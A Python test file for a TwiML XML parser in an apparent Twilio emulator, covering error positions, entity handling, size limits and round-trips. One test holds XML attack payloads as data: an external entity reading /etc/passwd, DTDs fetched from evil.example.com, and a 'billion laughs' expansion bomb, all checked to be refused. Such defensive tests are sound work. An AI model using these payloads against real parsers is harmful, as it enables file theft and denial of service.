from __future__ import annotations

import string
import xml.etree.ElementTree as ET
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st
from twilio.twiml.voice_response import VoiceResponse

from twilio_emulator.twiml.document import Element, parse
from twilio_emulator.twiml.errors import TwimlError


def refused(body, charset=""):
    with pytest.raises(TwimlError) as caught:
        parse(body, charset)
    return caught.value


def test_elements_know_their_line_and_column():
    root = parse(b'<?xml version="1.0"?>\n<Response>\n  <Say>Hi</Say><Pause/>\n</Response>').root
    assert [(child.name, child.line, child.column) for child in root.children] == [
        ("Say", 3, 3),
        ("Pause", 3, 16),
    ]


def test_columns_count_characters_not_bytes():
    root = parse("<Response><Say>Grüße aus Köln €</Say><Pause/></Response>".encode()).root
    assert root.children[1].column == len("<Response><Say>Grüße aus Köln €</Say>") + 1


def test_text_and_elements_keep_their_order():
    say = parse(b"<Response><Say>a<p>b</p>c<!-- no --><![CDATA[<d>]]></Say></Response>").root.children[0]
    (p,) = say.children
    assert say.content == ("a", p, "c<d>") or "".join(x for x in say.content if isinstance(x, str)) == "ac<d>"
    assert (say.text, p.text) == ("ac<d>", "b")


def test_attributes_have_their_entities_resolved():
    (play,) = parse(b'<Response><Gather action="/a?b=1&amp;c=%22&quot;&#33;"/></Response>').root.children
    assert play.attributes == {"action": '/a?b=1&c=%22"!'}


@pytest.mark.parametrize(
    ("body", "place", "advice"),
    [
        (b"<Response>\n <Say>Tom & Jerry</Say></Response>", (2, 12), "&amp;"),
        (b"\n<?xml version='1.0'?><Response/>", (2, 1), "not even a blank"),
        (b"<Response><Say></Response>", (1, 18), "Close every element"),
        (b"<Response>&nbsp;</Response>", (1, 11), "&amp;"),
        (b"Hello", (1, 1), "<Response>"),
        (b"<Response/><Response/>", (1, 12), "XML library"),
        (b"<!-- nothing -->", (1, 17), "<Response/>"),
        (b"<Response>\x00</Response>", (1, 11), "&amp;"),
    ],
)
def test_what_is_not_well_formed_is_12100_with_its_place_and_advice(body, place, advice):
    error = refused(body)
    assert error.code == 12100
    assert (error.line, error.column) == place
    assert advice in error.hint


@pytest.mark.parametrize("body", [b"", b" \n ", b"\xef\xbb\xbf"])
def test_an_empty_document_is_12100(body):
    error = refused(body)
    assert error.code == 12100
    assert "empty" in error.message


@pytest.mark.parametrize("body", [b"<html/>", b"<response/>", b"<Say>Hi</Say>"])
def test_another_root_is_12102(body):
    error = refused(body)
    assert (error.code, error.line, error.column) == (12102, 1, 1)


def test_64_kilobytes_are_read_and_one_byte_more_is_11750():
    filler = b"x" * (65_536 - len(b"<Response><Say></Say></Response>"))
    assert parse(b"<Response><Say>" + filler + b"</Say></Response>").root.children[0].text == filler.decode()
    assert refused(b"<Response><Say>x" + filler + b"</Say></Response>").code == 11750


LAUGHS = (
    b'<!DOCTYPE r [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(20))
    + b"]><Response>&t;</Response>"
)


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE Response><Response/>",
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response>&x;</Response>',
        b'<!DOCTYPE r SYSTEM "http://evil.example.com/x.dtd"><Response/>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example.com/p"> %p;]><Response/>',
        LAUGHS,
    ],
)
def test_a_document_type_declaration_is_refused_where_it_begins(body):
    started = perf_counter()
    error = refused(body)
    assert error.code == 12100
    assert error.line == 1
    assert "document type" in error.message
    assert perf_counter() - started < 1


def test_nesting_as_deep_as_64_kilobytes_allow_does_no_harm():
    depth = 9000
    document = parse(b"<Response>" + b"<p>" * depth + b"</p>" * depth + b"</Response>")
    seen, element = 0, document.root
    while element.children:
        (element,) = element.children
        seen += 1
    assert seen == depth


@given(st.binary(max_size=300))
def test_any_bytes_are_a_document_or_a_twiml_error(body):
    try:
        parse(body)
    except TwimlError as error:
        assert error.code in (12100, 12102)


@given(st.binary(max_size=60), st.text(max_size=20))
def test_any_charset_is_a_document_or_a_twiml_error(body, charset):
    try:
        parse(b"<Response>" + body + b"</Response>", charset)
    except TwimlError as error:
        assert error.code in (12100, 12102)


NAMES = st.text(string.ascii_letters, min_size=1, max_size=6)
TEXTS = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), max_size=20)


def elements():
    """Trees as ElementTree builds them."""

    def build(name, attributes, text, children):
        element = ET.Element(name, attributes)
        element.text = text
        for child, tail in children:
            child.tail = tail
            element.append(child)
        return element

    attributes = st.dictionaries(NAMES, TEXTS, max_size=3)
    leaves = st.builds(build, NAMES, attributes, TEXTS, st.just([]))
    return st.recursive(
        leaves,
        lambda inner: st.builds(build, NAMES, attributes, TEXTS, st.lists(st.tuples(inner, TEXTS), max_size=3)),
        max_leaves=8,
    )


@given(st.lists(elements(), max_size=3))
def test_what_another_library_writes_is_read_back(children):
    root = ET.Element("Response")
    root.extend(children)
    assert_same(parse(ET.tostring(root, encoding="utf-8")).root, root)


def assert_same(ours: Element, theirs: ET.Element) -> None:
    assert ours.name == theirs.tag
    assert ours.attributes == theirs.attrib
    assert ours.text == (theirs.text or "") + "".join(child.tail or "" for child in theirs)
    assert len(ours.children) == len(theirs)
    for our_child, their_child in zip(ours.children, theirs, strict=True):
        assert_same(our_child, their_child)


def test_what_the_sdk_writes_is_read_back():
    response = VoiceResponse()
    response.say("Fünf € & <mehr>", voice="alice")
    (say,) = parse(str(response).encode()).root.children
    assert (say.name, say.attributes, say.text) == ("Say", {"voice": "alice"}, "Fünf € & <mehr>")
